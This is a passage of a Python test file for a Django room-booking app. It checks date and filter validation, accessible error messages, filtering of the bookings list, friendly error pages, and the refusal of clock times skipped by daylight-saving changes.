        ({"start": "2030-01-10", "end": "2030-01-01"}, "The period must end on or after its first day."),
        ({"start": "2020-01-01", "end": "2030-01-13"}, "Choose at most five years (1,827 days)."),
        ({"start": "yesterday", "end": "2030-01-13"}, "Enter a valid date."),
    ],
)
def test_a_bad_period_is_explained(boss, query, message):
    for url in ("/reports/", "/reports/csv/"):
        response = boss.get(url, query)

        assert response.status_code == 400
        assert message in page(response)


def test_a_bad_period_shows_its_error_beside_the_field_it_concerns(boss):
    response = boss.get("/reports/", {"start": "2030-01-10", "end": "2030-01-01"})

    content = page(response)
    assert 'aria-describedby="id_end_error"' in content
    assert (
        '<ul class="errorlist" id="id_end_error"><li>The period must end on or after its first day.</li></ul>'
        in content
    )


@pytest.mark.parametrize(
    ("url", "query", "field"),
    [
        ("/bookings/", {"from": "2030-01-20", "to": "2030-01-10"}, "to"),
        ("/bookings/", {"search": "x" * 101}, "search"),
        ("/waitlist/", {"date": "2030-02-30"}, "date"),
    ],
)
def test_a_bad_filter_shows_its_error_beside_the_field_it_concerns(desk, url, query, field):
    response = desk.get(url, query)

    content = page(response)
    field_tag = re.search(rf'<(input|select)[^>]* id="filter-{field}"[^>]*>', content).group(0)
    assert 'aria-invalid="true"' in field_tag
    assert f'aria-describedby="filter-{field}-error"' in field_tag
    assert re.search(rf'<ul class="errorlist" id="filter-{field}-error"><li>[^<]+</li></ul>', content)


# --- the bookings list ----------------------------------------------------------------------------


def test_bookings_list_starts_today_by_default(desk, studio):
    BookingFactory(space=studio, start=at("10:00", MONDAY - timedelta(days=1)))
    today = BookingFactory(space=studio, start=at("10:00"))
    later = BookingFactory(space=studio, start=at("10:00", MONDAY + timedelta(days=3)))

    response = desk.get("/bookings/")

    assert [booking.pk for booking in response.context["page"]] == [today.pk, later.pk]


def test_bookings_list_filters_with_the_api_s_filterset(desk, studio):
    BookingFactory(space=studio, start=at("10:00"))
    confirmed = BookingFactory(space=studio, start=at("14:00"), state=BookingState.CONFIRMED)
    BookingFactory(space=SpaceFactory(), start=at("14:00"), state=BookingState.CONFIRMED)

    response = desk.get("/bookings/", {"date": "2030-01-14", "space": studio.slug, "state": "confirmed"})

    assert [booking.pk for booking in response.context["page"]] == [confirmed.pk]


def test_bookings_list_of_one_client_covers_all_their_days(desk, studio):
    client = ClientFactory(full_name="Alice Moreau")
    past = BookingFactory(space=studio, client=client, start=at("10:00", MONDAY - timedelta(days=30)))
    BookingFactory(space=studio, start=at("10:00"))

    response = desk.get("/bookings/", {"client": client.pk})

    assert [booking.pk for booking in response.context["page"]] == [past.pk]
    assert "For Alice Moreau" in page(response)


def test_bookings_list_explains_a_bad_filter(desk):
    response = desk.get("/bookings/", {"from": "2030-01-20", "to": "2030-01-10"})

    assert response.status_code == 400
    assert "Give a day on or after from." in page(response)


@pytest.mark.parametrize(
    ("url", "query", "field", "label"),
    [
        ("/bookings/", {"from": "2030-01-20", "to": "2030-01-10"}, "to", "To"),
        ("/bookings/", {"search": "x" * 101}, "search", "Client"),
        ("/waitlist/", {"date": "2030-02-30"}, "date", "Day"),
    ],
)
def test_a_bad_filter_is_named_in_the_error_summary_by_its_label(desk, url, query, field, label):
    response = desk.get(url, query)

    assert response.status_code == 400
    assert f'<a href="#filter-{field}">{label}: ' in page(response)
    assert "[invalid name]" not in page(response)


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ({"client": "999999"}, "The client of the link followed: "),
        ({"ordering": "zzz"}, "The order of the link followed: "),
    ],
)
def test_a_bad_filter_carried_by_the_link_is_named_without_a_link_to_a_missing_field(desk, query, named):
    response = desk.get("/bookings/", query)

    content = page(response)
    assert response.status_code == 400
    assert f"<li>{named}" in content
    for target in re.findall(r'<a href="#(filter-[^"]+)"', content):
        assert f'id="{target}"' in content


# --- error pages ----------------------------------------------------------------------------------


def test_server_error_page_stands_alone(rf):
    response = server_error(rf.get("/"))

    assert response.status_code == 500
    assert "Something went wrong on our side" in page(response)


def test_a_request_the_server_cannot_read_gets_a_friendly_page(desk, studio):
    desk.raise_request_exception = False
    far_too_many_fields = {f"field_{number}": "x" for number in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}

    response = desk.post("/bookings/new/", {**booking_form(studio), **far_too_many_fields})

    assert response.status_code == 400
    assert "The request could not be read" in page(response)
    assert "Back to Today" in page(response)
    assert not Booking.objects.exists()


def test_an_expired_form_gets_a_friendly_page(receptionist, studio):
    browser = Browser(enforce_csrf_checks=True)
    browser.force_login(receptionist)

    response = browser.post("/bookings/new/", booking_form(studio))

    assert response.status_code == 403
    assert "The form has expired" in page(response)
    assert not Booking.objects.exists()


# Berlin's clocks go forward from 02:00 to 03:00 on Sunday 31 March 2030: 02:00-02:59 never shows.
SKIPPED_02_30 = (
    "02:30 does not exist on Sun 31 Mar 2030: the clocks go forward from 02:00 to 03:00 that night. "
    "Choose a time before 02:00 or from 03:00 on."
)


@pytest.mark.parametrize(
    ("start_time", "end_time", "field"), [("02:30", "04:00", "start_time"), ("01:00", "02:30", "end_time")]
)
def test_a_time_the_clocks_skip_is_refused_on_the_booking_form(desk, settings, start_time, end_time, field):
    settings.TIME_ZONE = "Europe/Berlin"
    night = SpaceFactory(opening_hours={"sun": ["00:00", "24:00"]})

    response = desk.post(
        "/bookings/new/", booking_form(night, date="2030-03-31", start_time=start_time, end_time=end_time)
    )

    assert response.status_code == 400
    assert response.context["form"].errors[field] == [SKIPPED_02_30]
    assert not Booking.objects.exists()


def test_the_price_preview_says_why_a_time_the_clocks_skip_has_no_price(desk, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    night = SpaceFactory(opening_hours={"sun": ["00:00", "24:00"]})

    response = desk.get(
        "/bookings/new/price/", {"space": night.slug, "date": "2030-03-31", "start_time": "02:30", "end_time": "04:00"}
    )

    assert f"No price: {SKIPPED_02_30}" in page(response)
    assert "appears once" not in page(response)


def test_a_time_the_clocks_skip_is_refused_on_the_edit_form(desk, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    night = SpaceFactory(opening_hours={"sun": ["00:00", "24:00"]})
    booking = BookingFactory(space=night, start=at("01:00", date(2030, 3, 31)), end=at("01:45", date(2030, 3, 31)))
    shown = {"space": night.slug, "date": "2030-03-31", "start_time": "01:00", "end_time": "01:45", "people_count": "2"}

    response = desk.post(
        f"/bookings/{booking.pk}/edit/",
        {
            **shown,
            **{f"initial-{name}": value for name, value in shown.items()},
            "start_time": "02:30",
            "end_time": "03:30",
        },
    )

    assert response.status_code == 400
    assert response.context["form"].errors["start_time"] == [SKIPPED_02_30]
    booking.refresh_from_db()
    assert booking.start == at("01:00", date(2030, 3, 31))


def test_a_session_until_midnight_is_taken_the_night_the_clocks_go_forward_at_midnight(desk, settings):
    # The Azores' clocks go forward from 00:00 to 01:00 on Sunday 31 March 2030: Saturday still ends.
    settings.TIME_ZONE = "Atlantic/Azores"
    late = SpaceFactory(opening_hours={"sat": ["00:00", "24:00"]})

    response = desk.post("/bookings/new/", booking_form(late, date="2030-03-30", start_time="22:00", end_time="00:00"))

    assert response.status_code == 302
    booking = Booking.objects.get()
    assert (booking.start, booking.end) == (at("22:00", date(2030, 3, 30)), at("24:00", date(2030, 3, 30)))
